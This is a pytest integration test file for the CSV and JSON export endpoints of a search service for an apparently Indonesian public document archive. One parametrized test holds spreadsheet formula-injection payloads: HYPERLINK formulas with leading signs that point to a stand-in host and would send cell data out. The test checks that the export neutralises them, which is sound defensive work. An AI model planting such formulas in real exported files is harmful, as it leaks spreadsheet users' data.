"""Lists of results as files: whole, harmless to spreadsheets, and gone once they are sent."""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from falcon import testing

from archive.documents import Document
from archive.finding import SearchPage
from search_api.exchange import result_files
from search_api.services import Services
from tests.integration.web.exchanged import NASTY, NOT_PUBLIC, SECRET, day
from tests.integration.web.served import ask, read_all, served

Put = Callable[..., Document]
COLUMNS = "id,title,number,agency,class,date,year,type,pages,size,sha256,url,published"


def rows_of(client: testing.TestClient, query: str = "") -> list[dict[str, str]]:
    body = client.simulate_get("/cari/daftar.csv", query_string=query).content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of its own for temporary files."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def held_open(folder: Path) -> int:
    """How many files of ``folder`` this process holds open, those without a name among them."""
    held = 0
    for entry in Path("/proc/self/fd").iterdir():
        try:
            held += str(entry.readlink()).startswith(str(folder))
        except FileNotFoundError:  # closed meanwhile
            continue
    return held


def test_csv_is_what_spreadsheets_expect(client: testing.TestClient, put: Put) -> None:
    put(f'{NASTY}\nbaris "dua"', "air", number="600/12", date=dt.date(2024, 2, 1), year=2024, published_at=day(3))

    answer = client.simulate_get("/cari/daftar.csv", query_string="q=air")

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="daftar-dokumen.csv"'
    assert int(answer.headers["Content-Length"]) == len(answer.content)
    assert answer.content.startswith(b"\xef\xbb\xbf" + COLUMNS.encode() + b"\r\n")
    assert answer.content.endswith(b"\r\n")
    [row] = rows_of(client)
    assert row == {
        "id": "000000000001",
        "title": f'{NASTY}\nbaris "dua"',
        "number": "600/12",
        "agency": "Dinas Kesehatan",
        "class": "berkala",
        "date": "2024-02-01",
        "year": "2024",
        "type": "text",
        "pages": "1",
        "size": row["size"],
        "sha256": row["sha256"],
        "url": "http://falconframework.org/dokumen/000000000001",
        "published": "2026-01-03T07:30:00Z",
    }


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", " =", "\n@"])
def test_nothing_in_a_list_is_calculated(client: testing.TestClient, put: Put, sign: str) -> None:
    attack = f'{sign}HYPERLINK("http://a.example/?"&A1;"klik")'
    put(attack, "air", number=attack, unit="=1+1")

    [row] = rows_of(client)

    assert (row["title"], row["number"], row["agency"]) == (f"'{attack}", f"'{attack}", "'=1+1")


def test_json_holds_the_same_lines(client: testing.TestClient, put: Put) -> None:
    put(NASTY, "air", year=2024)
    put("=1+1", "air", information_class=None)

    answer = client.simulate_get("/cari/daftar.json", query_string="q=air&sort=title")

    assert answer.headers["Content-Type"] == "application/json"
    assert int(answer.headers["Content-Length"]) == len(answer.content)
    assert (answer.json["question"], answer.json["answered"], answer.json["total"]) == ("air", "air", 2)
    lines = answer.json["documents"]
    assert [list(line) for line in lines] == [COLUMNS.split(",")] * 2
    assert {line["title"]: (line["year"], line["class"]) for line in lines} == {
        NASTY: (2024, "berkala"),
        "=1+1": (None, None),
    }


def test_an_empty_list_is_a_list(client: testing.TestClient) -> None:
    assert client.simulate_get("/cari/daftar.csv").content == b"\xef\xbb\xbf" + COLUMNS.encode() + b"\r\n"
    assert client.simulate_get("/cari/daftar.json").json == {
        "question": "",
        "answered": "",
        "total": 0,
        "documents": [],
    }


def test_a_list_is_whole_and_in_the_order_that_was_asked_for(client: testing.TestClient, put: Put) -> None:
    for number in range(23):
        put(f"Laporan {number}", "air", date=dt.date(2000 + number, 1, 1), year=2000 + number)
    put("Lainnya", "tanah")

    years = [row["year"] for row in rows_of(client, "q=air&sort=newest&page=2")]
    lines = client.simulate_get("/cari/daftar.json", query_string="q=air&sort=oldest&year=2003&year=2001").json

    assert years == [str(year) for year in range(2022, 1999, -1)]
    assert [line["year"] for line in lines["documents"]] == [2001, 2003]


def test_a_corrected_question_says_what_was_answered(client: testing.TestClient, put: Put) -> None:
    put("Laporan", "kesehatan masyarakat kesehatan")

    corrected = client.simulate_get("/cari/daftar.json", params={"q": "keshatan"}).json
    literal = client.simulate_get("/cari/daftar.json", params={"q": "keshatan", "literal": "1"}).json

    assert (corrected["answered"], len(corrected["documents"])) == ("kesehatan", 1)
    assert (literal["answered"], literal["documents"]) == ("keshatan", [])


def test_no_list_holds_what_is_not_public(client: testing.TestClient, put: Put) -> None:
    for fields in NOT_PUBLIC:
        put(SECRET, "air", **fields)
    put("Laporan", "air")

    for address in ("/cari/daftar.csv", "/cari/daftar.json"):
        text = client.simulate_get(address).text
        assert "Laporan" in text
        assert SECRET not in text


def test_the_page_of_results_leads_to_its_files(client: testing.TestClient, put: Put) -> None:
    put("Laporan", "air", year=2024)

    page = client.simulate_get("/cari", query_string="q=air&year=2024&sort=newest").text
    english = client.simulate_get("/cari", query_string="q=air&lang=en").text

    for path in ("atom", "daftar.csv", "daftar.json"):
        assert f'href="/cari/{path}?q=air&amp;year=2024&amp;sort=newest"' in page
    assert "Daftar ini:" in page
    assert "This list:" in english


def test_no_file_is_left_when_it_was_sent(client: testing.TestClient, put: Put, temporary: Path) -> None:
    put("Laporan", "air")

    for address in ("/cari/daftar.csv", "/cari/daftar.json"):
        assert client.simulate_get(address).status_code == 200
        assert client.simulate_head(address).status_code == 200

    assert list(temporary.iterdir()) == []
    assert held_open(temporary) == 0


def test_no_file_is_left_when_writing_it_fails(
    client: testing.TestClient, put: Put, temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put("Laporan", "air")

    def fail(*_: object) -> None:
        raise OSError("no space left")

    monkeypatch.setattr(result_files, "utc", fail)

    assert client.simulate_get("/cari/daftar.csv").status_code == 500
    assert list(temporary.iterdir()) == []
    assert held_open(temporary) == 0


def test_no_file_is_left_when_the_client_goes_away(services: Services, put: Put, temporary: Path) -> None:
    for number in range(60):
        put(f"{number} " + "Judul yang sangat panjang " * 4000, "air")  # more than the sockets between hold

    with served(services) as address:
        connection = ask(address, "/cari/daftar.csv")
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        assert connection.recv(12) == b"HTTP/1.1 200"
        assert held_open(temporary) == 1
        assert list(temporary.iterdir()) == []

        connection.close()
        deadline = time.monotonic() + 60
        while held_open(temporary) and time.monotonic() < deadline:
            read_all(ask(address, "/healthz"))

        assert held_open(temporary) == 0


def test_slow_clients_of_lists_hold_no_thread(services: Services, put: Put) -> None:
    for number in range(60):
        put(f"{number} " + "Judul yang sangat panjang " * 4000, "air")

    with served(services) as address:
        slow = [ask(address, "/cari/daftar.csv") for _ in range(6)]
        for connection in slow:
            assert connection.recv(12) == b"HTTP/1.1 200"

        # More lists are under way than there are threads; this would never come if each held one.
        head, _ = read_all(ask(address, "/healthz"))
        assert head.startswith(b"HTTP/1.1 200")
        for connection in slow:
            head, body = read_all(connection)
            assert f"Content-Length: {len(body)}".encode() in head


def test_snippets_are_not_made_for_lists(client: testing.TestClient, put: Put, monkeypatch: pytest.MonkeyPatch) -> None:
    put("Laporan", "air bersih")
    seen: list[SearchPage] = []
    find = result_files.find
    monkeypatch.setattr(result_files, "find", lambda *a, **k: seen.append(find(*a, **k)) or seen[-1])

    client.simulate_get("/cari/daftar.csv", query_string="q=air")

    assert [hit.pages for page in seen for hit in page.hits] == [()]
